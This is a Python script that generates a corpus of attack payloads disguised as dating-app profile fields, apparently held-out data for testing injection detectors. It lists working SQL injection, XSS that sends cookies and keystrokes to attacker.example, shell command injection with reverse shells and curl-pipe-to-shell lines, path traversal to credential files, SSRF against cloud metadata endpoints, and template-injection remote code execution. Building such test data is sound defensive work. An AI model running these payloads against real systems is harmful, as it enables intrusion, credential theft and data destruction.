"""Held-out attack corpus for the dating / social-matching app theme.

Each value is a payload written for this corpus, hidden in the notations of a
dating app (bios, prompt answers, heights "5'10\"", age/distance filters,
photo file names and captions, location strings, chat lines, safety reports).
The class says where a vulnerable app would put the value:
"<context>-<technique>[+<encoding>]"; "plain-" classes carry no domain text.

Mostly hand-written literals; a few small templates over hand-written pools.
Attacker infrastructure only: attacker.example, *.attacker.example,
203.0.113.0/24, 198.51.100.0/24.  Secrets are placeholders.

Output: attacks.jsonl next to this file.  Deterministic: random.Random(SEED).
"""
import json
import random
from pathlib import Path

SEED = 8402
PREFIX = "ha84"

# ====================================================================== sqli
SQLI = [
    ("search-union", "hiking' UNION SELECT email,password_hash,NULL FROM users-- -"),
    ("agefilter-tautology", "25 OR 1=1"),
    ("agefilter-time", "30 AND SLEEP(5)"),
    ("location-union", "Brooklyn, NY' UNION ALL SELECT username,phone,lat,lon FROM profiles WHERE '1'='1"),
    ("bio-stacked", "Dog lover 🐶'; DROP TABLE matches;--"),
    ("height-tautology", "5' OR height_cm>0 -- "),
    ("age-error", "29 AND extractvalue(1,concat(0x7e,(SELECT password FROM admins LIMIT 1)))"),
    ("distance-stacked-time", "10;SELECT pg_sleep(7)--"),
    ("tags-blind-substring", "hiking' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'-- "),
    ("msg-stacked-update", "haha ok'); UPDATE users SET is_admin=1 WHERE username='mike88';--"),
    ("sort-orderby-case", "distance ASC, (CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN age ELSE height END)"),
    ("sort-orderby-time", "created_at DESC,(SELECT 1 FROM (SELECT SLEEP(4))x)"),
    ("report-insert-subquery", "fake profile', (SELECT api_key FROM admin_tokens LIMIT 1))-- "),
    ("username-comment", "admin'-- "),
    ("login-tautology", "' OR ''='"),
    ("agefilter-union-mssql", "35 UNION SELECT name, NULL, NULL FROM sys.tables--"),
    ("location-oob-mssql", "Paris'; EXEC master..xp_dirtree '\\\\sqli.attacker.example\\x';--"),
    ("bio-error-oracle", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))-- "),
    ("interest-union-sqlite", "yoga' UNION SELECT sql,2,3 FROM sqlite_master--"),
    ("search-like-union", "%' AND 1=0 UNION SELECT email, NULL FROM users WHERE email LIKE '%"),
    ("age-union-hex", "30 UNION SELECT 0x61646d696e,password FROM users"),
    ("zip-time-pg", "94110' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("msg-benchmark", "lol' AND BENCHMARK(30000000,SHA1('x'))-- "),
    ("search-union+comment", "tacos'/**/UNION/**/SELECT/**/email,pass/**/FROM/**/users#"),
    ("agefilter-union+case", "25 uNiOn SeLeCt username,password_hash fRoM users"),
    ("search-union+url", "hiking%27%20UNION%20SELECT%20email%2Cphone%20FROM%20users--%20"),
    ("plain-tautology", "' or 1=1--"),
    ("plain-union", "1 UNION SELECT null,version()--"),
    ("plain-time", "1' AND SLEEP(10)#"),
    ("lang-tautology", "es' OR language IS NOT NULL-- "),
    ("heightcm-tautology-offset", "178 OR 1=1 LIMIT 1 OFFSET 3"),
    ("prompt-update-subquery", "Favorite quote: hakuna matata', bio=(SELECT password_hash FROM users WHERE id=1), display_name='x"),
    ("photo-insert-multirow", "beach.jpg'),('x',(SELECT group_concat(email) FROM users))-- "),
    ("interest-json-blind", "climbing' AND JSON_EXTRACT((SELECT settings FROM users LIMIT 1),'$.token') LIKE 'a%"),
    ("matchid-union", "-1 UNION SELECT 1,email,3,4 FROM users WHERE role='admin'"),
    ("agefilter-error-mssql", "25 AND 1=CONVERT(int,(SELECT TOP 1 password FROM users))"),
    ("geo-paren-tautology", "40.7128 OR 1=1) -- "),
    ("search-stacked-pg-program", "jazz'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("report-stacked-xpcmdshell", "spam'; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt';--"),
    ("bio-union-outfile", "' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/u.php'-- "),
    ("agerange-exists", "35 OR EXISTS(SELECT 1 FROM admins)"),
    ("distance-blind-ascii", "10 AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>77"),
    ("msg-loadfile", "'+(SELECT LOAD_FILE('/etc/passwd'))+'"),
    ("username-concat-oracle", "jess'||(SELECT banner FROM v$version WHERE ROWNUM=1)||'"),
    ("agefilter-heavy-sqlite", "1 AND 1=randomblob(500000000)"),
    ("tag-union+comment", "hiking'/*!50000UNION*//*!50000SELECT*/ user(),2-- "),
    ("city-doublequote-tautology", "Berlin\" OR \"\"=\""),
    ("prompt-blind-count", "Two truths and a lie' AND (SELECT COUNT(*) FROM users)>100-- "),
    ("height-union", "6' UNION SELECT email, password_hash FROM users-- "),
    ("zip-error-pg", "10001' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"),
    ("email-tautology", "x@attacker.example' OR 'x'='x"),
    ("report-stacked-insert", "harassment'; INSERT INTO admins(username,password) VALUES('mallory','placeholder');--"),
    ("pagination-procedure", "20 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("interest-blind-pg", "hiking' OR (SELECT current_setting('is_superuser'))='on'--"),
    ("search-tautology+url2", "sushi%2527%2520OR%25201%253D1--%2520"),
    ("msg-tautology+unicode", "hey\\u0027 OR 1=1-- "),
    ("plain-stacked", "1; DROP TABLE users"),
    ("plain-blind", "1 AND (SELECT 'a' FROM users LIMIT 1)='a'"),
    ("plain-union-creds", "' UNION SELECT username, password FROM users--"),
    ("plain-comment", "admin' #"),
    ("plain-time-numeric", "1 OR SLEEP(3)"),
    ("plain-paren-tautology", "') OR ('a'='a"),
    ("blockid-subquery", "(SELECT id FROM users WHERE is_admin=1 LIMIT 1)"),
    ("lang-error-floor", "en' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- "),
    ("caption-union", "Sunset 🌅' UNION SELECT card_number, exp FROM payments-- "),
    ("search-fulltext-break", "cafe*' IN BOOLEAN MODE) OR 1=1-- "),
    ("interest-union-multiline", "hiking'\nUNION\nSELECT email,\n password_hash\nFROM users-- "),
    ("agefilter-between-union", "25 AND 35 UNION SELECT username, reset_token FROM users"),
    ("height-error-updatexml", "5' AND updatexml(1,concat(0x2e,(SELECT @@version)),1)-- "),
]
SQLI_WORDS = ["hiking", "tacos", "Brooklyn", "yoga", "sushi", "Lisbon", "jazz", "dogs", "coffee ☕", "5'9"]
SQLI_TAILS = [
    "' UNION SELECT {c} FROM {t}-- ",
    "' AND (SELECT COUNT(*) FROM {t})>0-- ",
    "' OR (SELECT 1 FROM {t} LIMIT 1)=1-- ",
    "'; DELETE FROM {t};-- ",
]
SQLI_COLS = ["email,password_hash", "phone,NULL", "username,reset_token", "lat,lon", "api_key,1"]
SQLI_TABLES = ["users", "admins", "messages", "payments", "sessions"]


def sqli_template(rng):
    w = rng.choice(SQLI_WORDS)
    if w.endswith("'9"):
        w = w[:-2]
    tail = rng.choice(SQLI_TAILS).format(c=rng.choice(SQLI_COLS), t=rng.choice(SQLI_TABLES))
    kind = {"' U": "union", "' A": "blind", "' O": "tautology", "';": "stacked"}[tail[:3] if tail[:2] == "' " else tail[:2]]
    return f"search-{kind}", w + tail


# ====================================================================== xss
XSS = [
    ("bio-script", "Dog mom 🐶 <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("msg-img-onerror", "hey cutie <img src=x onerror=alert(document.domain)>"),
    ("caption-svg-onload", "Sunset 🌅 <svg onload=location='//attacker.example/?c='+document.cookie>"),
    ("bio-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("prompt-details-ontoggle", "Two truths and a lie: <details open ontoggle=alert(1)>guess</details>"),
    ("name-attr-break", "Jess\" onmouseover=\"alert(1)\" x=\""),
    ("location-attr-break-single", "Paris' autofocus onfocus='alert(document.cookie)"),
    ("photo-filename-tag", "\"><img src=1 onerror=alert(1)>.jpg"),
    ("link-javascript-uri", "javascript:alert(document.cookie)"),
    ("link-javascript-uri+htmlent", "jav&#x61;script:alert(1)"),
    ("link-javascript-uri-tab", "java\tscript:alert(1)"),
    ("bio-body-onload", "<body onload=alert('xss')>"),
    ("msg-a-href-js", "check my playlist <a href=\"javascript:fetch('//attacker.example/'+localStorage.token)\">here</a> 🎵"),
    ("interest-tag-break", "hiking</span><script src=//attacker.example/x.js></script>"),
    ("bio-textarea-break", "</textarea><script>alert(1)</script>"),
    ("msg-title-break", "</title><svg/onload=alert(1)>"),
    ("report-style-break", "</style><img src=x onerror=alert(1)>"),
    ("jsvar-string-break", "';alert(String.fromCharCode(88,83,83));//"),
    ("jsvar-template-literal", "${alert(document.cookie)}"),
    ("jsvar-script-close", "</script><script>alert(1)</script>"),
    ("bio-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("link-href+htmlent", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">my insta</a>"),
    ("caption-img+url", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("bio-video-source", "<video><source onerror=\"alert(1)\"></video>"),
    ("bio-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("msg-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("bio-marquee-onstart", "<marquee onstart=alert(1)>single & ready</marquee>"),
    ("bio-object-datauri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("bio-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("msg-form-phish", "<form action=https://attacker.example/steal method=post><input name=password placeholder='Re-enter password'><button>Verify</button></form>"),
    ("bio-base-href", "<base href=\"https://attacker.example/\">"),
    ("caption-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("bio-markdown-link", "[my spotify](javascript:alert(document.cookie))"),
    ("bio-markdown-img-attr", "![me](https://attacker.example/a.png\"onerror=\"alert(1))"),
    ("prompt-angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("bio-vue-csti", "{{_c.constructor('alert(document.domain)')()}}"),
    ("msg-img+unicode", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("bio-svg-script+htmlent", "<svg><script>&#97;lert(1)</script></svg>"),
    ("bio-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("msg-math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("bio-img-slashes", "<img/src/onerror=alert(1)>"),
    ("prompt-pointerover", "I'll fall for you if... <div onpointerover=\"alert(1)\" style=\"position:fixed;inset:0\">you hover 😏</div>"),
    ("bio-embed-js", "<embed src=\"javascript:alert(1)\">"),
    ("msg-img-backtick", "<img src=x onerror=alert`1`>"),
    ("bio-nested-strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("location-attr-unquoted", "x onmouseover=alert(1)"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img", "<img src=x onerror=prompt(1)>"),
    ("plain-svg", "<svg/onload=confirm(1)>"),
    ("plain-javascript-uri", "javascript:confirm(document.domain)"),
    ("plain-attr-break-script", "\"><script>alert(document.cookie)</script>"),
    ("plain-svg-single-break", "'><svg onload=alert(2)>"),
    ("plain-iframe-js", "<iframe src=\"javascript:alert(1)\">"),
    ("bio-svg+url2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("photo-svg-upload", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><circle r=\"40\"/></svg>"),
    ("msg-datauri-link", "<a href=\"data:text/html,<script>alert(1)</script>\">see my pics 😘</a>"),
    ("jsjson-break", "\"});alert(1);//"),
    ("bio-keylogger", "<img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
    ("msg-script-multiline", "omg hi!!\n<script>\nnew Image().src='https://attacker.example/c?'+document.cookie\n</script>"),
    ("caption-svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>tap me</text></a></svg>"),
    ("height-attr-break", "5'10\" onclick=alert(1) data-x=\""),
    ("report-iframe-js", "<iframe src=javascript:alert(1)>"),
    ("bio-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("msg-svg-set", "😘<svg><set onbegin=alert(1) attributeName=x>"),
    ("bio-event+htmlent", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("bio-concat-call", "<img src=x onerror=top[\"al\"+\"ert\"](1)>"),
    ("msg-eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("bio-css-import-exfil", "<style>@import url(//attacker.example/steal.css);</style>"),
    ("interest-tag-onanimation", "<p style=\"animation-name:spin\" onanimationstart=alert(1)>#hiking</p>"),
]
XSS_PREFIX = ["Hiking lover 🥾 ", "hey! ", "Two truths and a lie: ", "5'8\" ", "Sunset pic 🌅 ", "", "lol "]
XSS_VECTORS = [
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<body onpageshow={js}>",
    "<details open ontoggle={js}>",
    "<input onfocus={js} autofocus>",
]
XSS_JS = ["alert(1)", "alert(document.cookie)", "print()", "fetch('//attacker.example/'+document.cookie)",
          "location='//attacker.example'"]


def xss_template(rng):
    vec = rng.choice(XSS_VECTORS)
    tag = vec[1:vec.index(" ")]
    return f"bio-{tag}-event", rng.choice(XSS_PREFIX) + vec.format(js=rng.choice(XSS_JS))


# ====================================================================== cmdi
CMDI = [
    ("photo-filename-semicolon", "selfie.jpg; curl http://attacker.example/s.sh | sh"),
    ("photo-filename-subshell", "beach$(id).jpg"),
    ("photo-filename-backtick", "IMG_`whoami`.png"),
    ("caption-pipe-nc", "Sunset 🌅 | nc 203.0.113.7 4444 -e /bin/sh"),
    ("location-and", "Brooklyn && cat /etc/passwd"),
    ("location-or-wget", "Paris || wget -q -O- http://attacker.example/x | bash"),
    ("lang-newline", "en\nid"),
    ("bio-reverse-shell", "hey; bash -i >& /dev/tcp/198.51.100.23/9001 0>&1"),
    ("photo-ifs", "pic.jpg;cat${IFS}/etc/shadow"),
    ("caption-brace-expansion", "nice;{cat,/etc/passwd}"),
    ("photo-singlequote-break", "me.jpg' ; rm -rf /tmp/* ; echo '"),
    ("caption-doublequote-break", "\"; sleep 10; echo \""),
    ("zip-sleep", "94110;sleep 7"),
    ("location-ping", "127.0.0.1; ping -c 10 198.51.100.5"),
    ("photo-argument-injection-tar", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("avatarurl-argument-injection-curl", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("caption-base64-pipe", "x; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9wIHwgc2g= | base64 -d | sh"),
    ("bio-powershell", "hi & powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("location-windows-type", "Berlin & type C:\\Windows\\win.ini"),
    ("photo-windows-certutil", "pic.png | certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe"),
    ("height-dns-exfil", "178`nslookup $(whoami).cmd.attacker.example`"),
    ("search-subshell-sleep", "hiking$(sleep 5)"),
    ("lang-quote-obfuscation", "de;c''at /e't'c/pa''sswd"),
    ("caption-glob-obfuscation", "ok;/???/??t /???/p??s??"),
    ("photo-newline+url", "photo.jpg%0Aid"),
    ("bio-semicolon+url", "x%3Bcat%20%2Fetc%2Fpasswd"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-subshell", "$(uname -a)"),
    ("plain-backtick", "`id`"),
    ("plain-and", "&& ls -la /"),
    ("plain-or", "|| id"),
    ("plain-newline", "\nwhoami"),
    ("plain-semicolon-cat", "; cat /etc/passwd"),
    ("msg-webshell-write", "lol; echo '<?php system($_GET[1]);?>' > /var/www/html/uploads/c.php"),
    ("distance-redirect-in", "10;cat</etc/passwd"),
    ("photo-python-revshell", "a.jpg;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("location-perl", "Rome; perl -e 'print `id`'"),
    ("zip-env-exfil", "10001;env > /tmp/e; curl -F f=@/tmp/e http://attacker.example/up"),
    ("caption-crontab", "x; (crontab -l; echo '* * * * * curl -s attacker.example/b|sh') | crontab -"),
    ("photo-ssh-key", "x.jpg; echo ssh-ed25519 AAAAFAKEKEYPLACEHOLDER attacker@box >> ~/.ssh/authorized_keys"),
    ("tags-printf-hex", "yoga;$(printf '\\x69\\x64')"),
    ("lang-dollar-at", "fr;w$@hoami"),
    ("username-tab", "jess;cat\t/etc/hostname"),
    ("caption-find-exec", "x; find / -name '*.env' -exec cat {} \\;"),
    ("photo-mkfifo-nc", "p.jpg; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.77 1234 >/tmp/f"),
    ("location-awk-system", "Oslo | awk 'BEGIN{system(\"id\")}'"),
    ("search-xargs", "pasta; ls /home | xargs -I{} cat /home/{}/.bash_history"),
    ("bio-multiline", "Love hiking ⛰️\ncurl -s http://attacker.example/i.sh -o /tmp/i.sh\nsh /tmp/i.sh"),
    ("zip-windows-ping", "12345|ping -n 11 127.0.0.1"),
    ("location-windows+case", "Lyon & WhOaMi /PrIv"),
    ("caption-windows-caret", "nice pic & w^h^o^a^m^i"),
    ("photo-ifs-wget", "img.jpg;${IFS}wget${IFS}attacker.example/m${IFS}-O${IFS}/tmp/m"),
    ("tag-semicolon+url2", "hiking%253Bid"),
    ("bio-herestring", "x; sh <<< 'id'"),
    ("height-subshell", "183$(cat /etc/hostname)"),
    ("msg-tilde-creds", "x;cat ~/.aws/credentials"),
    ("photo-sed", "a.jpg;sed -n '1p' /etc/shadow"),
    ("lang-nohup-beacon", "it; nohup sh -c 'while :; do curl -s attacker.example/beacon; sleep 60; done' &"),
    ("caption-docker-escape", "cute; docker run -v /:/h alpine chroot /h sh"),
    ("age-semicolon", "29;id"),
    ("location-windows-set", "Madrid | set"),
    ("photo-imagemagick-delegate", "|touch /tmp/poc #.jpg"),
    ("video-ffmpeg-pipe", "clip.mp4;ffmpeg -i /etc/passwd -f data tcp://203.0.113.40:9000"),
]
CMDI_FILES = ["IMG_2231.jpg", "selfie.png", "beach (2).jpg", "profile.heic", "dog&me.jpg", "Lisbon", "Brooklyn, NY"]
CMDI_SEPS = [("semicolon", "; "), ("pipe", " | "), ("and", " && "), ("subshell", "$("), ("backtick", "`"), ("newline", "\n")]
CMDI_CMDS = ["id", "uname -a", "cat /etc/passwd", "curl attacker.example/x|sh", "sleep 9", "nc 198.51.100.9 80 -e sh"]


def cmdi_template(rng):
    name, sep = rng.choice(CMDI_SEPS)
    cmd = rng.choice(CMDI_CMDS)
    if sep == "$(":
        v = f"{rng.choice(CMDI_FILES)}$({cmd})"
    elif sep == "`":
        v = f"{rng.choice(CMDI_FILES)}`{cmd}`"
    else:
        v = rng.choice(CMDI_FILES) + sep + cmd
    return f"photo-{name}", v


# ====================================================================== traversal
TRAVERSAL = [
    ("photo-dotdot", "../../../../etc/passwd"),
    ("photo-nullbyte+url", "../../../etc/passwd%00.jpg"),
    ("lang-proc-environ", "../../../../../../proc/self/environ"),
    ("lang-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("photo-absolute", "/etc/shadow"),
    ("avatar-dotdot+url", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("avatar-dotdot+url2", "..%252F..%252F..%252Fetc%252Fpasswd"),
    ("photo-dotdot+overlong", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("photo-dotdot+unicode", "..%u2216..%u2216windows%u2216win.ini"),
    ("photo-nested-strip", "....//....//....//etc/passwd"),
    ("photo-mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
    ("theme-app-config", "../../config/database.yml"),
    ("export-dotenv", "../../../app/.env"),
    ("photo-git-config", "../../.git/config"),
    ("photo-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("photo-proc-cmdline", "../../../../proc/self/cmdline"),
    ("lang-prefix-escape", "/var/www/app/../../../etc/hosts"),
    ("avatar-file-uri", "file:///etc/passwd"),
    ("photo-encoded-dots+url", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("photo-half-encoded+url", ".%2e/.%2e/.%2e/etc/group"),
    ("lang-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("photo-unc-path", "\\\\198.51.100.4\\share\\x.jpg"),
    ("photo-zip-slip", "../../../../var/www/html/shell.php"),
    ("photo-idor-dotdot", "uploads/u123/../../u456/private/IMG_0001.jpg"),
    ("photo-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("lang-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("photo-nginx-log", "../../../../var/log/nginx/access.log"),
    ("photo-tomcat-semicolon", "..;/..;/WEB-INF/web.xml"),
    ("photo-web-inf", "../WEB-INF/web.xml"),
    ("photo-windows-bootini", "..\\..\\..\\boot.ini"),
    ("lang-nullbyte-ext+url", "../../../../etc/passwd%00en.json"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-windows", "..\\..\\..\\windows\\system.ini"),
    ("plain-dotdot-hosts", "../../../../../../etc/hosts"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-dotdot+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("photo-fullwidth+unicode", "．．／．．／．．／etc／passwd"),
    ("photo-backslash+url", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("backup-bash-history", "../../../../home/app/.bash_history"),
    ("photo-aws-creds", "../../../../root/.aws/credentials"),
    ("photo-proc-root", "/proc/1/root/etc/shadow"),
    ("caption-subdir-escape", "profile/../../../../../../etc/passwd"),
    ("lang-windows-sam+case", "..\\..\\WINDOWS\\System32\\Config\\SAM"),
    ("static-path-encoded+url", "/static/..%2f..%2f..%2fetc%2fpasswd"),
    ("photo-param-dotdot", "thumb.php?f=../../../etc/passwd"),
    ("photo-caption-filename", "Me at the beach 🏖️/../../../../etc/hostname"),
    ("photo-dotdot-jpg-suffix", "../../../../etc/passwd/./././././.jpg"),
]
TRAV_SEPS = ["../", "..\\", "..%2f", "..%5c", "....//", "%2e%2e%2f"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "app/config/secrets.yml",
                "var/www/.env", "windows/win.ini", "home/app/.ssh/id_rsa"]
TRAV_CTX = ["photo", "avatar", "lang", "theme", "export"]


def traversal_template(rng):
    sep = rng.choice(TRAV_SEPS)
    enc = "+url" if "%" in sep else ""
    tgt = rng.choice(TRAV_TARGETS)
    if "%5c" in sep or "\\" in sep:
        tgt = tgt.replace("/", "\\") if "\\" in sep else tgt.replace("/", "%5c")
    return f"{rng.choice(TRAV_CTX)}-dotdot{enc}", sep * rng.randint(3, 8) + tgt


# ====================================================================== ssrf
SSRF = [
    ("avatarurl-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("avatarurl-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("avatarurl-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("instalink-localhost-admin", "http://localhost:8080/admin/users"),
    ("instalink-redis", "http://127.0.0.1:6379/"),
    ("avatarurl-loopback+altip", "http://2130706433/admin"),
    ("avatarurl-loopback-hex+altip", "http://0x7f000001/"),
    ("avatarurl-loopback-octal+altip", "http://0177.0.0.1/server-status"),
    ("avatarurl-loopback-short+altip", "http://127.1/"),
    ("avatarurl-ipv6-loopback", "http://[::1]:9200/_cat/indices"),
    ("avatarurl-ipv4mapped+altip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("avatarurl-userinfo-confusion", "https://cdn.datingapp.example@169.254.169.254/latest/user-data"),
    ("instalink-gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A"),
    ("avatarurl-file-scheme", "file:///proc/self/environ"),
    ("instalink-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("webhook-consul", "http://10.0.0.5:8500/v1/agent/self"),
    ("avatarurl-open-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("avatarurl-dns-rebinding", "http://rebind.attacker.example:8080/internal/"),
    ("avatarurl-wildcard-dns", "http://169.254.169.254.attacker.example/latest/meta-data/"),
    ("instalink-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("instalink-docker-api", "http://127.0.0.1:2375/containers/json"),
    ("avatarurl-elasticsearch", "http://localhost:9200/_search?q=*"),
    ("spotifylink-router", "http://192.168.0.1/cgi-bin/config.exp"),
    ("avatarurl-ipv6-full", "http://[0:0:0:0:0:0:0:1]/admin"),
    ("avatarurl-zero-addr", "http://0.0.0.0:8000/debug/vars"),
    ("avatarurl-host+url", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("avatarurl-enclosed-digits+unicode", "http://①②⑦.⓪.⓪.①/"),
    ("instalink-fragment-confusion", "http://169.254.169.254#@cdn.datingapp.example/"),
    ("instalink-backslash-confusion", "http://cdn.datingapp.example\\@127.0.0.1:8080/"),
    ("avatarurl-jar-scheme", "jar:http://attacker.example/x.zip!/a.jpg"),
    ("webhook-metadata-alibaba", "http://100.100.100.200/latest/meta-data/"),
    ("webhook-metadata-oracle", "http://169.254.169.254/opc/v2/instance/"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-loopback-port", "http://127.0.0.1:8080/"),
    ("plain-unspecified-ipv6", "http://[::]:80/"),
    ("plain-file-windows", "file:///c:/windows/win.ini"),
    ("instalink-ldap-scheme", "ldap://127.0.0.1:389/"),
    ("avatarurl-metadata-decimal+altip", "http://2852039166/latest/meta-data/"),
    ("avatarurl-metadata-hexdots+altip", "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/"),
    ("import-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Cnoreply@datingapp.example%3E%0D%0ARCPT%20TO:%3Cvictim@attacker.example%3E%0D%0ADATA%0D%0ASubject:%20hi%0D%0A%0D%0Abody%0D%0A.%0D%0AQUIT%0D%0A"),
    ("instalink-actuator", "http://admin.internal:8080/actuator/env"),
    ("instalink-netdoc", "netdoc:///etc/passwd"),
    ("webhook-url+url2", "http%253A%252F%252F127.0.0.1%253A8080%252Fadmin"),
    ("webhook-localdomain", "http://localhost.localdomain:5000/internal/flags"),
    ("avatarurl-portscan-ssh", "http://127.0.0.1:22/"),
    ("avatarurl-metadata-gcp-legacy", "http://169.254.169.254/computeMetadata/v1beta1/project/project-id"),
    ("photoimport-internal-s3", "http://minio.internal:9000/user-photos/?list-type=2"),
]
SSRF_HOSTS = ["127.0.0.1", "localhost", "10.0.0.12", "172.17.0.1", "192.168.1.20", "[::1]", "169.254.169.254"]
SSRF_PORTS = ["", ":80", ":8080", ":6379", ":9200", ":5432", ":3000", ":8500"]
SSRF_PATHS = ["/", "/admin", "/metrics", "/internal/users.json", "/debug/pprof/", "/latest/meta-data/"]
SSRF_CTX = ["avatarurl", "instalink", "webhook", "photoimport"]


def ssrf_template(rng):
    return (f"{rng.choice(SSRF_CTX)}-internal",
            f"http://{rng.choice(SSRF_HOSTS)}{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}")


# ====================================================================== code
CODE = [
    ("bio-ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("prompt-ssti-jinja2-config", "Two truths and a lie: {{ config.items() }}"),
    ("msg-ssti-jinja2-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("bio-ssti-jinja2-attr+hexesc", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("caption-ssti-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("bio-ssti-twig-filter", "{{['id']|filter('system')}}"),
    ("bio-ssti-twig-map", "{{['cat /etc/passwd']|map('passthru')|join}}"),
    ("msg-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("bio-ssti-erb", "<%= `id` %>"),
    ("bio-ssti-erb-file", "<%= File.read('/etc/passwd') %>"),
    ("prompt-ssti-velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
    ("bio-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("bio-el-spel", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("bio-el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("bio-ssti-smarty", "{system('id')}"),
    ("bio-ssti-smarty-php", "{php}echo `id`;{/php}"),
